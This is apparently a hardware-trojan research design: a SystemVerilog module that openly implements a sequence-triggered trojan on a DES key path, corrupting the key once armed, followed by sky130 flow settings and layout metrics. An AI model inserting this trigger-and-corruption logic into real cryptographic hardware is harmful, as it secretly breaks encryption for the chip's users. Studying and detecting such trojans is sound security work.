===== src/rtl/trojan_seq_multi.sv =====
// trojan_seq_multi
//   Sequential-trigger key-corruption block on the DES key path. It keeps a
//   history of the last DEPTH accepted trigger symbols. When that history
//   equals the programmed sequence often enough, the block latches active
//   and corrupts the key in one of four payload modes until reset.
//
// Ports
//   clk, rst          : clock, synchronous active-high reset
//   key               : clean key from the key register
//   sym_valid, sym    : trigger symbol stream
//   cfg_we            : load cfg_seq/cfg_count/cfg_mode/cfg_bit (ignored when active)
//   payload           : registered key, clean or corrupted
//   active            : trojan latched on
//   hit_cnt           : sequence matches counted so far
module trojan_seq_multi #(
    parameter int unsigned KEY_W = 56,
    parameter int unsigned SYM_W = 2,
    parameter int unsigned DEPTH = 3,
    parameter int unsigned CNT_W = 4,
    parameter logic [DEPTH*SYM_W-1:0] DEFAULT_SEQ = 6'b10_01_11,
    parameter logic [1:0]  DEFAULT_MODE = 2'd1,
    parameter int unsigned DEFAULT_BIT  = 0
) (
    input  logic                     clk,
    input  logic                     rst,
    input  logic [KEY_W-1:0]         key,
    input  logic                     sym_valid,
    input  logic [SYM_W-1:0]         sym,
    input  logic                     cfg_we,
    input  logic [DEPTH*SYM_W-1:0]   cfg_seq,
    input  logic [CNT_W-1:0]         cfg_count,
    input  logic [1:0]               cfg_mode,
    input  logic [$clog2(KEY_W)-1:0] cfg_bit,
    output logic [KEY_W-1:0]         payload,
    output logic                     active,
    output logic [CNT_W-1:0]         hit_cnt
);

    localparam int unsigned HIST_W = DEPTH * SYM_W;
    localparam int unsigned BIT_W  = $clog2(KEY_W);
    localparam int unsigned FILL_W = $clog2(DEPTH + 1);

    localparam logic [FILL_W-1:0] FILL_MAX  = FILL_W'(DEPTH);
    localparam logic [FILL_W-1:0] FILL_NEED = FILL_W'(DEPTH - 1);
    localparam logic [BIT_W:0]    KEY_W_EXT = (BIT_W + 1)'(KEY_W);

    typedef enum logic [0:0] {StHunt, StActive} state_e;

    state_e              state_q, state_d;
    logic [HIST_W-1:0]   hist_q, hist_d;
    logic [FILL_W-1:0]   fill_q, fill_d;
    logic [CNT_W-1:0]    hit_q, hit_d;
    logic [HIST_W-1:0]   seq_q, seq_d;
    logic [CNT_W-1:0]    count_q, count_d;
    logic [1:0]          mode_q, mode_d;
    logic [BIT_W-1:0]    bit_q, bit_d;
    logic [KEY_W-1:0]    payload_q, payload_d;

    logic [HIST_W-1:0]   hist_shift;
    logic                match;
    logic [CNT_W:0]      hit_inc;
    logic [CNT_W:0]      threshold;
    logic [KEY_W-1:0]    flip_mask;
    logic [KEY_W-1:0]    corrupt_key;

    // Shift-left-and-insert works for DEPTH=1 too, where no slice exists.
    assign hist_shift = HIST_W'(hist_q << SYM_W) | HIST_W'(sym);

    // cfg_we wins over a simultaneous symbol, so that symbol never matches.
    assign match = (state_q == StHunt) && sym_valid && !cfg_we &&
                   (fill_q >= FILL_NEED) && (hist_shift == seq_q);

    assign hit_inc   = {1'b0, hit_q} + 1'b1;
    assign threshold = (count_q == '0) ? (CNT_W + 1)'(1) : {1'b0, count_q};

    // ------------------------------------------------------------------
    // FSM: state register
    // ------------------------------------------------------------------
    always_ff @(posedge clk) begin
        if (rst) begin
            state_q <= StHunt;
        end else begin
            state_q <= state_d;
        end
    end

    // ------------------------------------------------------------------
    // FSM: next state
    // ------------------------------------------------------------------
    always_comb begin
        state_d = state_q;
        unique case (state_q)
            StHunt: begin
                if (match && (hit_inc >= threshold)) begin
                    state_d = StActive;
                end
            end
            StActive: state_d = StActive;
            default:  state_d = StHunt;
        endcase
    end

    // ------------------------------------------------------------------
    // FSM: outputs
    // ------------------------------------------------------------------
    always_comb begin
        active = (state_q == StActive);
    end

    // ------------------------------------------------------------------
    // History, counters and configuration next-state
    // ------------------------------------------------------------------
    always_comb begin
        hist_d  = hist_q;
        fill_d  = fill_q;
        hit_d   = hit_q;
        seq_d   = seq_q;
        count_d = count_q;
        mode_d  = mode_q;
        bit_d   = bit_q;
        if (state_q == StHunt) begin
            if (cfg_we) begin
                seq_d   = cfg_seq;
                count_d = cfg_count;
                mode_d  = cfg_mode;
                bit_d   = cfg_bit;
                fill_d  = '0;
                hit_d   = '0;
            end else if (sym_valid) begin
                hist_d = hist_shift;
                if (fill_q < FILL_MAX) begin
                    fill_d = fill_q + 1'b1;
                end
                if (match) begin
                    hit_d = hit_inc[CNT_W-1:0];
                end
            end
        end
    end

    // ------------------------------------------------------------------
    // Payload function
    // ------------------------------------------------------------------
    always_comb begin
        flip_mask = '0;
        if ({1'b0, bit_q} < KEY_W_EXT) begin
            flip_mask = KEY_W'(1) << bit_q;
        end
        unique case (mode_q)
            2'd0:    corrupt_key = key;
            2'd1:    corrupt_key = key ^ flip_mask;
            2'd2:    corrupt_key = key & ~KEY_W'(8'hFF);
            2'd3:    corrupt_key = {key[KEY_W-2:0], key[KEY_W-1]};
            default: corrupt_key = key;
        endcase
        // Registered active gives the one-cycle lag behind activation.
        payload_d = active ? corrupt_key : key;
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            hist_q    <= '0;
            fill_q    <= '0;
            hit_q     <= '0;
            seq_q     <= DEFAULT_SEQ;
            count_q   <= CNT_W'(1);
            mode_q    <= DEFAULT_MODE;
            bit_q     <= BIT_W'(DEFAULT_BIT);
            payload_q <= key;
        end else begin
            hist_q    <= hist_d;
            fill_q    <= fill_d;
            hit_q     <= hit_d;
            seq_q     <= seq_d;
            count_q   <= count_d;
            mode_q    <= mode_d;
            bit_q     <= bit_d;
            payload_q <= payload_d;
        end
    end

    assign payload = payload_q;
    assign hit_cnt = hit_q;

endmodule


===== config.mk =====
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_seq_multi
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_seq_multi.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 25
export CORE_MARGIN = 2
export CORE_UTILIZATION = 51
export CTS_CLUSTER_SIZE = 20
export DETAILED_ROUTE_END_ITERATION = 12
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY = 0.86
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit

===== constraint.sdc =====
create_clock -name clk -period 3.75 [get_ports clk]
set_input_delay 0.5625 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.5625 -clock clk [all_outputs]
set_load 0.01 [all_outputs]

==> flow_summary_export.csv <==
group,metric,value,unit
global_route,grtUsageTotal,0.2899,
yosys,synth_area_per_cell,7.951,sq um
timing,finalSetupViolations,0,
timing,fin_crit_sh,0.6621,
critical_path,worstPathMaxFanout,44,
yosys,synth_commonest_cells,"a21oi_1, dfxtp_1, o21ai_0",
floorplanning,io_pins,141,
yosys,yosys_warnings,0,
cts,postCtsResizedCells,0,
floorplanning,fp-row-count,34,
yosys,synth_area,4619,sq um
critical_path,path_cells,"and2_1, buf_4, a22oi_1, o21ai_0",
power_and_ir_drop,ir_drop,0.0002017,V
yosys,ys_top_cells_by_area,"dfxtp_1, a21oi_1, o21ai_0",
power_and_ir_drop,power_switching,573.1,uW
cts,clock_latency,0.36,ns
timing,relSlewSlack,0.3256,
place,dp.cells,781,
global_route,grt_pass1_vias,4665,
power_and_ir_drop,switching_share,0.2767,
global_route,grt.overflow.total,0,
yosys,synth_flop_cell,"dfxtp_1",
yosys,yosysTopAreaCell,"dfxtp_1",
global_route,grt_pass1_wl,23100,um
power_and_ir_drop,p_int,1498,uW
critical_path,crit_required,4.03,ns
yosys,ys_seq_area_frac,0.3684,
power_and_ir_drop,seq_power_share,0.480,
critical_path,cp.arrival,2.76,ns
floorplanning,core,8763,sq um
route,wl_per_cell,18.23,um
floorplanning,start_util,0.5271,
power_and_ir_drop,powerDensity,335.2,nW/um^2
route,met2_length,6825,um
route,wl_met3,1499,um
floorplanning,die_area,9835,sq um
timing,hold_violations,0,
cts,cts.clk_slew.worst_paths,0.09,ns
global_route,grt_max_degree,45,
yosys,yosys_register_bits,85,
timing,period_needed,2.483,ns
finish,drive_above_1_share,0.07246,
route,drt-total-wl,14540,um
yosys,synth_cell_type_count,56,
min_path,hp-start,"count_q[1]$_SDFFE_PP0P_",
cts,cts.sinks,85,
timing,rsz0062_at_grt,"no",
cts,cts_buffer_depth,2,
critical_path,critPathLaunch,"mode_q[1]$_SDFFE_PP0P_",
run,cap_violations,0,
power_and_ir_drop,p_leak,0.002085,uW
global_route,antenna_found_initial,0,
finish,area_growth,33.78,%
cts,cts_setup_buffers,0,
yosys,synth-async-reset-ratio,0,
yosys,yosysMostFrequentCell,"a21oi_1",
finish,num-fill-cells,693,
critical_path,path_class,"flip-flop to flip-flop",
route,routed_via_density,6.345,
floorplanning,die_y,99.17,um
route,drtIter0Drc,641,
cts,root_buffer,"clkbuf_8",
yosys,synth_edf_count,0,
power_and_ir_drop,combPwrFrac,0.184,
timing,slew_violations,0,
timing,skew,0.01454,ns
power_and_ir_drop,power_frac_clock,0.336,
cts,cts_made_buffers,9,
route,firstDrtPassIters,7,
timing,fmax,0.4028,GHz
route,drtAntennaViolNets,0,
cts,holdBufCountCts,0,
finish,layout.cells.non_filler,798,
route,drc,0,
critical_path,start_kind,"flip-flop",
yosys,syn-num-nets,668,
finish,n_antenna_cell,0,
timing,fin_tns_setup,0,ns
place,numPortBuffers,140,
status,run_status,"finished, final reports clean",
critical_path,worstSetupEndpointType,"flip-flop",
critical_path,slowest_stage,"dfxtp_2",
route,met1_length,5699,um
min_path,hold_path_class,"flip-flop to flip-flop",
yosys,syn_inst,581,
timing,worstMarginPinSlew,1.008,ns
floorplanning,die_width,99.17,um
finish,nets,772,
route,num_vias,5063,
place,place_hpwl,9932,um
route,top_layer_used,"met4",
cts,cts_tree,"done",
yosys,synth_top_area_share,0.3684,
critical_path,r2r_start,"mode_q[1]$_SDFFE_PP0P_",
critical_path,cpPeakStageDelay,0.87,ns
cts,h-tree-depth,3,
## sequential cells by signal, indices dropped and copies added (netlist names)
signal   count
payload     56
bit_q        6
seq_q        6
count_q      4
hist_q       4
hit_cnt      4
fill_q       2
mode_q       2
active       1
## cells in the final DEF (no fill, tap or decap), types with 2 or more instances in the layout
cell type,n
or4b_4,3
and4_1,2
xnor2_1,7
mux2i_1,4
nand4b_1,4
a21oi_1,98
dfxtp_1,84
nor4bb_1,3
nand2_1,42
nor4b_2,2
nor3_2,5
ha_1,7
o21ai_0,85
nand3b_1,6
nor4_1,2
o21ai_1,20
and4b_1,4
a21boi_0,4
nand2b_1,4
buf_4,9
nor3_1,19
nor3b_1,9
nor2b_1,7
nand3_1,3
clkbuf_8,11
a211oi_1,4
nand4bb_1,3
o31ai_1,4
a22oi_1,22
o211ai_1,3
inv_1,5
nor2_2,2
nor2_1,30
nor4b_4,2
and2_1,2
nand4_1,2
clkdlybuf4s50_1,140
and4bb_2,3
## layer usage
metal	vias to the layer above	GRT usage
li1	2325	-
met1	2336	0.3896
met2	341	0.4574
met3	61	0.05833
met4	0	0.1191
met5	-	0
## cells by family (layout without fill, tap and decap cells)
kind of cell | after synthesis | after routing | synth area share
AO/OA/AOI/OAI | 252 | 252 | 0.3020
XOR/XNOR | 8 | 8 | 0.01517
adder cells (fa/ha/maj) | 7 | 7 | 0.01896
buffers and inverters | 62 | 171 | 0.06338
flip-flops | 85 | 85 | 0.3684
multiplexers | 4 | 4 | 0.008668
AND/OR/NAND/NOR | 163 | 163 | 0.2235
## stage by stage
step           utilization  power [uW]  setup slack, ns  hold WS, ns  cell area, sq um
5_1_grt             0.7052        2146            1.181       0.4883              6180
3_5_place_dp        0.6803        1386            1.299       0.4510              5962
6_report            0.7052        2071            1.267       0.4621              6180
4_1_cts             0.7043        2065            1.406       0.4621              6172
2_1_floorplan            -        1186            2.203       0.4363              4619
3_3_place_gp        0.6803        1373            1.354       0.4471              5962
## worst max-delay path, delay by kind of cell (launching register included)
kind / cells / cell delay, ns
AOI/OAI and AO/OA: 2 / 0.39
buffers and inverters: 1 / 0.48
DFF: 1 / 0.87
and+or+nand+nor: 1 / 0.65
## path summary, 6_finish.rpt
path / cells after the start / endpoint / slack (ns)
setup / recovery: 4 / payload[29]$_DFF_P_ / 1.27
setup reg to reg: 4 / payload[29]$_DFF_P_ / 1.27
hold / removal: 2 / count_q[1]$_SDFFE_PP0P_ / 0.46
hold reg to reg: 2 / count_q[1]$_SDFFE_PP0P_ / 0.46
## power by group through the flow
stage          sequential (uW)  clock (uW)  combinational [uW]
2_1_floorplan             1000           0                 184
3_3_place_gp              1010           0                 362
3_5_place_dp              1010           0                 372
4_1_cts                    993         697                 376
5_1_grt                   1000         735                 411
6_report                   995         696                 381
## area by class of cell
| class | count | area, sq um | area share |
|---|---|---|---|
| well taps | 108 | 135.1 | 0.02187 |
| repair buffers | 150 | 1476 | 0.2389 |
| multi-input cells | 434 | 2636 | 0.4266 |
| clock buffers | 12 | 155.1 | 0.02511 |
| clock inverters | 4 | 55.05 | 0.008909 |
| flip-flops and latches | 85 | 1703 | 0.2756 |
| inverters | 5 | 18.77 | 0.003037 |
(Power assumes the default switching activity.)
